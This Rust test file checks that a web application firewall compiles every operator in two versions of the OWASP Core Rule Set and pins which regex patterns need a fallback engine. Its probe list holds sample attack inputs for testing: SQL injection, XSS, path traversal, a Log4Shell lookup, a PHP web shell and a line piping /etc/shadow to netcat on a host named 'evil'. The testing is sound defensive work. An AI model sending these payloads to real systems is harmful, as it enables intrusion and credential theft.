//! Compiles every operator of CRS v3.3.4 (Debian's) and v4.28.0 (shared data) with the
//! operator module, and pins which `@rx` patterns need the backtracking fallback.

mod crs_rules;

use crs_rules::{rule_files, scan, FsSource, ScannedOperator, CRS_V3_RULES};
use portcullis_waf::ast::OperatorName;
use portcullis_waf::operator::CompiledOperator;
use portcullis_waf::operator::{Captures, LiteralPosition};
use std::collections::BTreeSet;
use std::path::Path;

struct Report {
    rx_total: usize,
    rx_with_macros: usize,
    rx_direct: usize,
    rx_after_rewrite: usize,
    fallback: BTreeSet<String>,
    other_operators: usize,
}

fn compile_all(dir: &Path) -> Report {
    let files =
        rule_files(dir).unwrap_or_else(|| panic!("{} is not a readable directory", dir.display()));
    let scanned = scan(&files);
    assert!(!scanned.is_empty(), "no SecRule found in {}", dir.display());
    let dir = dir.display();
    let mut report = Report {
        rx_total: 0,
        rx_with_macros: 0,
        rx_direct: 0,
        rx_after_rewrite: 0,
        fallback: BTreeSet::new(),
        other_operators: 0,
    };
    let mut failures = Vec::new();
    let mut prefilter_checks = 0;
    for ScannedOperator {
        file,
        rule,
        name,
        argument,
        ..
    } in &scanned
    {
        let Some(op) = OperatorName::from_name(name) else {
            failures.push(format!("{file} {rule}: unknown operator @{name}"));
            continue;
        };
        if argument.contains("%{") {
            // Macros are expanded by the engine per transaction.
            if op == OperatorName::Rx {
                report.rx_with_macros += 1;
            }
            continue;
        }
        let rule_file = format!("{dir}/{file}");
        let compiled = CompiledOperator::compile(op, argument, &FsSource, &rule_file);
        if op != OperatorName::Rx {
            report.other_operators += 1;
            if let Err(e) = compiled {
                failures.push(format!("{file} {rule}: {e}"));
            }
            continue;
        }
        report.rx_total += 1;
        if regex::bytes::RegexBuilder::new(argument)
            .unicode(false)
            .multi_line(true)
            .dot_matches_new_line(true)
            .build()
            .is_ok()
        {
            report.rx_direct += 1;
        }
        if let Ok(c) = &compiled {
            prefilter_checks +=
                check_required_literals(&format!("{file} {rule}"), c, &mut failures);
        }
        match compiled {
            Ok(c) if c.uses_fallback_regex() => {
                let reason = c.rx().and_then(|r| r.fallback()).map(|f| {
                    if f.constructs.is_empty() {
                        format!("regex: {}", f.regex_error.clone().unwrap_or_default())
                    } else {
                        f.constructs.join(", ")
                    }
                });
                report
                    .fallback
                    .insert(format!("{rule} ({})", reason.unwrap_or_default()));
            }
            Ok(_) => report.rx_after_rewrite += 1,
            Err(e) => failures.push(format!("{file} {rule}: {e}")),
        }
    }
    assert!(
        failures.is_empty(),
        "operator failures:\n{}",
        failures.join("\n")
    );
    assert!(
        prefilter_checks > 20,
        "the probes exercise the prefilters ({prefilter_checks})"
    );
    eprintln!(
        "{dir}: {} @rx ({} with macros, not compiled here): {} compile with `regex` as written, \
         {} after the PCRE translation, {} on fancy-regex: {:?}; {} other operators compiled",
        report.rx_total + report.rx_with_macros,
        report.rx_with_macros,
        report.rx_direct,
        report.rx_after_rewrite,
        report.fallback.len(),
        report.fallback,
        report.other_operators,
    );
    report
}

/// Values that set off many CRS rules, for the prefilter check.
const PROBES: &[&[u8]] = &[
    b"1' UNION SELECT username, password FROM users --",
    b"<script>alert(document.cookie)</script>",
    b"<img src=x onerror=alert(1)>",
    b"../../../../etc/passwd",
    b"; cat /etc/shadow | nc evil 4444",
    b"${jndi:ldap://evil/a}",
    b"<?php system($_GET['c']); ?>",
    b"javascript:alert(1)",
    b"' or 1=1#",
    b"SELECT * FROM information_schema.tables WHERE 1=1",
    b"eval(base64_decode('aGk='))",
    b"http://169.254.169.254/latest/meta-data/",
    b"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0",
    b"application/x-www-form-urlencoded; charset=utf-8",
    b"\x00\xff\xc3\xa9\n\r\t",
    b"",
];

/// Every probe a pattern matches contains one of its required literals (ignoring ASCII case)
/// at the stated end of the match.
fn check_required_literals(
    at: &str,
    compiled: &CompiledOperator,
    failures: &mut Vec<String>,
) -> usize {
    let Some(required) = compiled.required_literals() else {
        return 0;
    };
    let mut checked = 0;
    for probe in PROBES {
        let mut captures = Captures::default();
        if !compiled.matches(probe, Some(&mut captures)) {
            continue;
        }
        checked += 1;
        let whole = captures
            .groups
            .first()
            .cloned()
            .flatten()
            .unwrap_or_default();
        let whole = whole.to_ascii_lowercase();
        let ok = required.literals.iter().any(|l| match required.position {
            LiteralPosition::Prefix => whole.starts_with(l),
            LiteralPosition::Suffix => whole.ends_with(l),
            LiteralPosition::Inner => whole.windows(l.len()).any(|w| w == l.as_slice()),
        });
        if !ok {
            failures.push(format!(
                "{at}: match {:?} carries none of the required literals",
                String::from_utf8_lossy(&whole)
            ));
        }
    }
    checked
}

#[test]
fn crs_v3_3_4_operators_compile_and_only_pcre_only_patterns_fall_back() {
    // Debian's CRS is installed by the test command (scripts/setup): missing, this fails.
    let report = compile_all(Path::new(CRS_V3_RULES));
    assert!(
        report.rx_total > 200,
        "too few @rx found: {}",
        report.rx_total
    );
    let expected: BTreeSet<String> = [
        "920120 (look-behind)",
        "920600 (possessive quantifier)",
        "942130 (look-ahead, back-reference)",
        "942260 (possessive quantifier)",
        "953120 (look-ahead)",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(report.fallback, expected);
}

#[test]
fn crs_v4_28_0_operators_compile_without_fallback() {
    let Some(dir) = portcullis_shared_data::CRS_V4_28_0.for_test() else {
        return;
    };
    let report = compile_all(&dir.join("rules"));
    assert!(
        report.rx_total > 250,
        "too few @rx found: {}",
        report.rx_total
    );
    assert!(report.fallback.is_empty(), "{:?}", report.fallback);
}
